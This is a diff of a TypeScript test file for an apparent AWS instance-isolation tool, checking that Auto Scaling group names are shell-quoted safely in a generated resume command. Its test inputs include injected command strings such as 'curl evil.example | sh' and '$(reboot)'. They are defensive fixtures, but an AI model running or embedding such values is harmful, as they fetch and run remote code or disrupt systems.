@@ -1,23 +1,26 @@
 import { describe, expect, it } from 'vitest';
 import type { TrackedPath } from '../../src/case/cut.ts';
 import {
-  ambiguousTargets,
-  connectionsKept,
-  evidenceWayRefused,
-  evidenceWaysUnread,
+  groupSuspended,
   membershipUnread,
-  referencesLost,
-  requesterManagedInterface,
-  routesUnread,
-  sideDoorRisks,
-  standingRisks,
   stillInAutoScalingGroup,
+} from '../../src/case/risks/auto-scaling.ts';
+import {
+  connectionsKept,
+  routesUnread,
   trackedPathRisks,
   transitionFailed,
   transitionUnknown,
-  undoFromLogOnly,
-  unusualSettings,
-} from '../../src/case/risk.ts';
+} from '../../src/case/risks/connections.ts';
+import {
+  evidenceWayRefused,
+  evidenceWaysUnread,
+  referencesLost,
+  requesterManagedInterface,
+} from '../../src/case/risks/isolation-groups.ts';
+import { ambiguousTargets, undoFromLogOnly, unusualSettings } from '../../src/case/risks/record.ts';
+import { sideDoorRisks } from '../../src/case/risks/side-doors.ts';
+import { standingRisks } from '../../src/case/risks/standing.ts';
 import { accountId, instanceId, instanceWith } from './sample-before.ts';
 
 const pathWith = (changes: Partial<TrackedPath> = {}): TrackedPath => ({
@@ -114,6 +117,25 @@ describe('what security groups cannot take away', () => {
         { Effect: 'Deny', Condition: { StringLike: { 'aws:userid': `*:${instanceId}` } } },
       ],
     });
+  });
+});
+
+describe('an Auto Scaling group that was kept from terminating', () => {
+  const remedyFor = (groupName: string, own: readonly string[] = ['Terminate']) =>
+    groupSuspended(groupName, ['ReplaceUnhealthy', 'Terminate'], own, ['refused']).remedy;
+
+  it.each([
+    ['web-asg', "'web-asg'"],
+    ['web asg; curl evil.example | sh', "'web asg; curl evil.example | sh'"],
+    ["it's $(reboot)", "'it'\\''s $(reboot)'"],
+  ])('is one word in the command that resumes it, whatever it is called: %s', (name, word) => {
+    expect(remedyFor(name)).toContain(
+      `--auto-scaling-group-name ${word} --scaling-processes Terminate`,
+    );
+  });
+
+  it('has no command to resume what somebody else had suspended before', () => {
+    expect(remedyFor('web-asg', [])).not.toContain('resume-processes');
   });
 });
 
